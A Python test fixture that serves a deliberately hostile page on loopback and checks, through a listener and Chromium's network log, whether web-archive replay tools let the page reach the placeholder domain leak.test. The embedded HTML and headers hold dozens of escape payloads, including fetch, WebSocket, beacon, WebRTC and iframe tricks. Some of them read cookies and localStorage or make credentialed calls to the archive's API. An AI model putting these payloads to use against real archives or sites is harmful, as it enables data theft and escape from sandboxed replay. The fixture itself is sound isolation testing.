"""A site whose page tries every known way out of a replay, as a server on loopback, and who looks if it got out.

The page was made after trials with pywb, replayweb.page and Chromium's own log of its network: whatever makes a
browser ask a name of ``*.leak.test`` counts, a question to the resolver included.
"""

import json
import re
import threading
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from socketserver import BaseRequestHandler, ThreadingTCPServer
from typing import Any, ClassVar

LEAK = re.compile(r"^(?:pm/)?(?:ssl/)?(?:[a-z]+://)?([a-z0-9]+)\.leak\.test")
CONTACTS = (
    "HOST_RESOLVER",
    "DNS",
    "HTTP_STREAM",
    "TRANSPORT_CONNECT",
    "SSL_CONNECT",
    "TCP_",
    "SOCKET_POOL",
    "WEB_SOCKET",
)
"""Beginnings of Chromium's events that mean: a name was looked up, or a connection to it was begun."""

PAGE = r"""<!doctype html><html><head><title>H</title><meta charset=utf-8>
<link rel=dns-prefetch href="//dnsp.leak.test"><link rel=preconnect href="https://preconn.leak.test">
<link rel=prefetch href="https://prefetch.leak.test/x"><link rel=modulepreload href="https://modpre.leak.test/x.js">
<link rel=stylesheet href="https://css.leak.test/a.css"><link rel=stylesheet href="style.css">
<style>@import "https://import.leak.test/i.css"; b{background:url(https://bg.leak.test/b.png)}
@font-face{font-family:f;src:url(https://font.leak.test/f.woff2)} h1{font-family:f}</style>
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["https://spec.leak.test/"]}]}</script>
<script src="ok.js"></script></head><body><h1 id=h>static</h1><b>b</b><img id=own src="pixel.png">
<!-- --!> <img src="https://comment.leak.test/i.png"><link rel=preconnect href="https://compre.leak.test"> <!-- -->
<img src="https://img.leak.test/i.png"><img srcset="https://srcset.leak.test/i.png 1x">
<iframe src="https://frame.leak.test/"></iframe>
<video src="https://video.leak.test/v.mp4" poster="https://poster.leak.test/p.png" autoplay></video>
<object data="https://object.leak.test/"></object><embed src="https://embed.leak.test/">
<svg><image href="https://svg.leak.test/a.png"/><use href="https://use.leak.test/a.svg#a"/></svg>
<a id=out href="https://link.leak.test/" ping="https://ping.leak.test/">out</a>
<math><mi href="https://math.leak.test/" id=mathlink>math</mi></math>
<script>
function T(f){try{f()}catch(e){}}
T(()=>fetch('https://fetch.leak.test/'));T(()=>{new Image().src='https://'+'jsimg.leak.test/'});
T(()=>{new Image().src=['ht','tps://','cat.leak.test/'].join('')});
T(()=>new WebSocket('wss://ws.leak.test/'));T(()=>new EventSource('https://es.leak.test/'));
T(()=>navigator.sendBeacon('https://beacon.leak.test/','x'));
T(()=>{let x=new XMLHttpRequest();x.open('GET','https://xhr.leak.test/');x.send()});
T(()=>{let s=document.createElement('script');s.src='https://script.leak.test/';document.head.append(s)});
T(()=>{let s=document.createElement('div');s.innerHTML='<img src="https://inner.leak.test/x">';document.body.append(s)});
T(()=>{let s=document.createElement('link');s.rel='preconnect';s.href='https://jspre.leak.test';document.head.append(s)});
T(()=>{let p=new RTCPeerConnection({iceServers:[{urls:'stun:stun.leak.test:3478'}]});p.createDataChannel('x');
p.createOffer().then(o=>p.setLocalDescription(o))});
T(()=>{new Worker(URL.createObjectURL(new Blob(["fetch('https://worker.leak.test/')"])))});
T(()=>{let i=document.createElement('iframe');i.srcdoc='<script>fetch("https://srcdoc.leak.test/")<\/script>';
document.body.append(i)});
T(()=>{let i=document.createElement('iframe');i.src='javascript:fetch("https://jsframe.leak.test/")';
document.body.append(i)});
T(()=>{let i=document.createElement('iframe');document.body.append(i);i.contentWindow.fetch('https://cleanframe.leak.test/')});
T(()=>{let i=document.createElement('iframe');document.body.append(i);
new i.contentWindow.Image().src='https://cleanimg.leak.test/'});
T(()=>{eval("var I=Image;new I().src='https://evl.leak.test/'")});
T(()=>{window.open('https://open.leak.test/')});
T(()=>{let f=document.createElement('form');f.action='https://form.leak.test/';f.method='post';f.target='_blank';
document.body.append(f);f.submit()});
T(()=>{new WebTransport('https://transport.leak.test/')});
var R={};T(()=>{R.cookie=document.cookie});T(()=>{R.ls=localStorage.getItem('secret')});
T(()=>{R.top=String(top.document.cookie)});T(()=>{R.parent=String(parent.document.title)});
R.here=location.href;R.okjs=window.okjs;
function tell(){document.getElementById('h').textContent='ran '+(window.okjs||'')+' '+JSON.stringify(R)}
function told(){tell();console.log('told '+JSON.stringify(R));
setTimeout(()=>{try{top.location='https://topnav.leak.test/'}catch(e){}},200);
setTimeout(()=>{location.href='https://nav.leak.test/?d=1'},500)}
T(()=>{fetch(ARCHIVE+'/api/v2/dags',{credentials:'include'}).then(a=>{R.api=a.status},e=>{R.api='refused'}).then(told)});
T(()=>{let i=document.createElement('iframe');document.body.append(i);
i.contentWindow.fetch(ARCHIVE+'/api/v2/dags',{credentials:'include'})});
tell();
setTimeout(tell,500);
</script></body></html>"""

HEADERS = {
    "Content-Security-Policy-Report-Only": "img-src 'none'; report-uri https://csphead.leak.test/",
    "Link": "<https://linkhead.leak.test>; rel=preconnect, <https://linkpre.leak.test/a>; rel=preload; as=style",
    "Reporting-Endpoints": 'default="https://report.leak.test/"',
    "NEL": '{"report_to":"default","max_age":100,"success_fraction":1.0}',
    "Speculation-Rules": '"https://spechead.leak.test/r.json"',
    "Set-Cookie": "archived=yes",
    "X-Frame-Options": "DENY",
}
"""What the page's server says to browsers besides; none of it may get through."""

POLICIES = {
    "Connection-Allowlist": '(response-origin "https://*.leak.test")',
    "Content-Security-Policy": "default-src * 'unsafe-inline' 'unsafe-eval' data: blob:",
}
"""Policies that, were they to get through, would stand beside ours; the control goes without."""

REFRESHED = b'<meta http-equiv=refresh content="0;url=https://metarefresh.leak.test/"><h1 id=h>refresh</h1>'

PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c49444154789c63f8cfc0000003010100"
    "c9fe92ef0000000049454e44ae426082"
)


class HostileSite:
    """The site on a loopback port. ``archive_url`` is where its page looks for the archive's own API."""

    def __init__(self, archive_url: str, *, with_policies: bool = True) -> None:
        page = PAGE.replace("ARCHIVE", json.dumps(archive_url)).encode()
        answers = {
            "/": (200, "text/html; charset=utf-8", page, HEADERS | (POLICIES if with_policies else {})),
            "/ok.js": (200, "text/javascript", b"window.okjs='okjs'", {}),
            "/style.css": (
                200,
                "text/css",
                b"h1{color:rgb(1, 2, 3)} b{background:url(https://cssurl.leak.test/)}",
                {},
            ),
            "/pixel.png": (200, "image/png", PIXEL, {}),
            "/refused": (403, "text/html; charset=utf-8", "<h1>Доступ закрыты</h1>".encode(), {}),
            "/refresh": (200, "text/html", REFRESHED, {"Refresh": "0; url=https://refreshhead.leak.test/"}),
            "/gone": (404, "text/html", b"<h1>nothing here</h1>", {}),
            "/moved": (302, "text/html", b"", {"Location": "/refused"}),
            "/away": (302, "text/html", b"", {"Location": "https://away.leak.test/"}),
            "/picture.svg": (
                200,
                "image/svg+xml",
                b"<svg xmlns='http://www.w3.org/2000/svg'><a href='https://"
                b"svglink.leak.test/'><text y='20'>x</text></a></svg>",
                {},
            ),
            "/wide": (200, "text/html; charset=utf-16", PAGE_IN_UTF16, {}),
        }

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                status, kind, body, headers = answers.get(self.path, (404, "text/plain", b"", {}))
                self.send_response(status)
                for name, value in {"Content-Type": kind, "Content-Length": str(len(body)), **headers}.items():
                    self.send_header(name, value)
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_: Any) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self._server.server_address[1]
        self.paths = tuple(answers)

    def __enter__(self) -> "HostileSite":
        threading.Thread(target=self._server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *_: object) -> None:
        self._server.shutdown()
        self._server.server_close()


PAGE_IN_UTF16 = (
    '<!doctype html><title>wide</title><h1 id=h>шырока</h1><img src="https://wide.leak.test/i.png">'
    '<link rel=preconnect href="https://widepre.leak.test"><a id=out href="https://widelink.leak.test/">out</a>'
).encode("utf-16")


class Catcher:
    """Listens where every name of ``*.leak.test`` leads; ``caught`` has the names that arrived."""

    caught: ClassVar[set[str]] = set()

    @contextmanager
    def listening(self) -> Iterator[int]:
        """The port on 127.0.0.2."""
        caught: set[str] = set()
        self.caught = caught  # type: ignore[misc]  # each catcher its own

        class Handler(BaseRequestHandler):
            def handle(self) -> None:
                self.request.settimeout(1)
                try:
                    begun = self.request.recv(2000)
                except OSError:
                    begun = b""
                named = re.findall(rb"([a-z0-9]+)\.leak\.test", begun)
                caught.update(name.decode() for name in named[:1] or [b"unnamed"])

        ThreadingTCPServer.allow_reuse_address = True
        with ThreadingTCPServer(("127.0.0.2", 0), Handler) as server:
            server.daemon_threads = True
            threading.Thread(target=server.serve_forever, daemon=True).start()
            yield server.server_address[1]
            server.shutdown()


def contacted(net_log: Path) -> set[str]:
    """The names below ``leak.test`` that a browser looked up or connected to, from its log of the network."""
    log = json.loads(net_log.read_text("utf-8", errors="replace"))
    kinds = {number: name for name, number in log["constants"]["logEventTypes"].items()}
    return {
        name
        for event in log["events"]
        if kinds.get(event["type"], "").startswith(CONTACTS)
        for name in _names(event.get("params", {}))
    }


def _names(params: Mapping[str, Any]) -> Iterator[str]:
    for value in params.values():
        if isinstance(value, str) and (found := LEAK.match(value)):
            yield found[1]
